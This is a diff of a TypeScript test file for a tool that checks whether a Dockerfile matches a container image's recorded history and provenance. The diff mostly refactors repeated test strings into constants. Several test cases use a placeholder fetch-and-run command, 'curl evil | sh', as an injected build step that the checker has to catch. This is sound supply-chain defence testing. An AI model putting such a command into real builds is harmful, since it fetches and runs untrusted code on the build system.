@@ -95,77 +95,47 @@ const contradictionIn = async (given: Case): Promise<string | undefined> =>
 
 const OTHER_LINE = (line: number) => `line ${line} of the Dockerfile is not in the image’s history`;
 
+const STEPS = (ours: number, history: number) =>
+  `the Dockerfile has ${ours} steps that add a layer, the image’s history ${history}`;
+const OTHER_DAY =
+  'its build ended on 2026-11-20T10:00:30Z, the image was created on 2020-01-01T00:00:00Z';
+const OTHER_LAYERS = 'it names debian:trixie as the base, and the image has other layers';
+const EVIL = 'RUN /bin/sh -c curl evil | sh # buildkit';
+const [, INSTALL = '', COPY = ''] = OWN;
+const OLD = '2020-01-01T00:00:00Z';
+const BASH = ['SHELL [/bin/bash -o pipefail -c]', 'RUN /bin/bash -o pipefail -c a | b # buildkit'];
+const fits = (dockerfile: string, ...history: readonly string[]): Case => ({ dockerfile, history });
+
 describe('provenance that nobody signed', () => {
   test.each<[string, Case]>([
     ['as BuildKit leaves it', {}],
     ['of a stage on a stage', { dockerfile: DOCKERFILE.replace('COPY', 'FROM 1\nCOPY') }],
-    ['of scratch', { dockerfile: 'FROM scratch\nCOPY a /a\n', history: ['COPY a /a # buildkit'] }],
-    [
-      'a RUN in exec form',
-      { dockerfile: 'FROM x\nRUN ["a", "b"]\n', history: ['RUN a b # buildkit'] },
-    ],
-    [
-      'a RUN of a here-document',
-      { dockerfile: 'FROM x\nRUN <<EOF\na\nEOF\n', history: ['RUN /bin/sh -c a\n # buildkit'] },
-    ],
+    ['of scratch', fits('FROM scratch\nCOPY a /a\n', 'COPY a /a # buildkit')],
+    ['a RUN in exec form', fits('FROM x\nRUN ["a", "b"]\n', 'RUN a b # buildkit')],
+    ['a here-document', fits('FROM x\nRUN <<EOF\na\nEOF\n', 'RUN /bin/sh -c a\n # buildkit')],
     [
       'another shell',
-      {
-        dockerfile: 'FROM x\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN a | b\n',
-        history: [
-          'SHELL [/bin/bash -o pipefail -c]',
-          'RUN /bin/bash -o pipefail -c a | b # buildkit',
-        ],
-      },
+      fits('FROM x\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN a | b\n', ...BASH),
     ],
-    [
-      'a created that is the epoch',
-      { created: '2024-01-01T00:00:00Z', epoch: String(Date.parse('2024-01-01T00:00:00Z') / 1000) },
-    ],
-    ['no steps of its own', { dockerfile: 'FROM debian\nUSER 1\n', history: BASE }],
+    ['a created that is the epoch', { created: OLD, epoch: String(Date.parse(OLD) / 1000) }],
+    ['no steps of its own', fits('FROM debian\nUSER 1\n', ...BASE)],
   ])('fits: %s', async (_, given) => {
     expect(await contradictionIn(given)).toBeUndefined();
   });
 
   test.each<[string, Case, string]>([
-    [
-      'another image’s Dockerfile',
-      { dockerfile: 'FROM scratch\nCOPY a /a\n' },
-      'the Dockerfile has 1 steps that add a layer, the image’s history 3',
-    ],
-    [
-      'a download left out',
-      { history: [...BASE, 'RUN /bin/sh -c curl evil | sh # buildkit', OWN[2] ?? ''] },
-      OTHER_LINE(6),
-    ],
+    ['another image’s Dockerfile', { dockerfile: 'FROM scratch\nCOPY a /a\n' }, STEPS(1, 3)],
+    ['a download left out', { history: [...BASE, EVIL, COPY] }, OTHER_LINE(6)],
     [
       'a command added to a step',
-      {
-        history: [
-          ...BASE,
-          OWN[1]?.replace(' # buildkit', '; curl evil | sh # buildkit') ?? '',
-          OWN[2] ?? '',
-        ],
-      },
+      { history: [...BASE, INSTALL.replace(' # buildkit', '; curl evil | sh # buildkit'), COPY] },
       OTHER_LINE(6),
     ],
     ['a step less', { dockerfile: 'FROM debian\nRUN true\n' }, OTHER_LINE(2)],
-    [
-      'an image without a history',
-      { history: [], layers: 3 },
-      'the Dockerfile has 2 steps that add a layer, the image’s history 0',
-    ],
+    ['an image without a history', { history: [], layers: 3 }, STEPS(2, 0)],
     ['a forged history', { layers: 7 }, 'its history lists 3 layers, the image has 7'],
-    [
-      'an old image that claims to be new',
-      { created: '2020-01-01T00:00:00Z' },
-      'its build ended on 2026-11-20T10:00:30Z, the image was created on 2020-01-01T00:00:00Z',
-    ],
-    [
-      'an epoch that is not the image’s',
-      { created: '2020-01-01T00:00:00Z', epoch: '1' },
-      'its build ended on 2026-11-20T10:00:30Z, the image was created on 2020-01-01T00:00:00Z',
-    ],
+    ['an old image that claims to be new', { created: OLD }, OTHER_DAY],
+    ['an epoch that is not the image’s', { created: OLD, epoch: '1' }, OTHER_DAY],
   ])('does not fit: %s', async (_, given, reason) => {
     expect(await contradictionIn(given)).toBe(reason);
   });
@@ -192,36 +162,11 @@ describe('the base that an unsigned provenance names', () => {
   });
 
   test.each<[string, Case, readonly string[], string]>([
-    [
-      'another image',
-      {},
-      ['layer of debian'],
-      'it names debian:trixie as the base, and the image has other layers',
-    ],
-    [
-      'an image of more layers',
-      {},
-      ['layer 0', 'layer 1', 'layer 2', 'layer 3'],
-      'it names debian:trixie as the base, and the image has other layers',
-    ],
-    [
-      'an empty image',
-      {},
-      [],
-      'it names debian:trixie as the base, and the image has other layers',
-    ],
-    [
-      'a step between the base and the Dockerfile',
-      { history: [...BASE, 'RUN /bin/sh -c curl evil | sh # buildkit', ...OWN] },
-      ['layer 0'],
-      'the Dockerfile has 2 steps that add a layer, the image’s history 3',
-    ],
-    [
-      'a base that contains the Dockerfile’s own steps',
-      {},
-      ['layer 0', 'layer 1'],
-      'the Dockerfile has 2 steps that add a layer, the image’s history 1',
-    ],
+    ['another image', {}, ['layer of debian'], OTHER_LAYERS],
+    ['an image of more layers', {}, ['layer 0', 'layer 1', 'layer 2', 'layer 3'], OTHER_LAYERS],
+    ['an empty image', {}, [], OTHER_LAYERS],
+    ['a step on the base', { history: [...BASE, EVIL, ...OWN] }, ['layer 0'], STEPS(2, 3)],
+    ['a base with the Dockerfile’s own steps', {}, ['layer 0', 'layer 1'], STEPS(2, 1)],
   ])('contradicts: %s', async (_, given, layers, reason) => {
     expect((await markIn(given, layersOf(...layers))).contradicts).toBe(reason);
   });
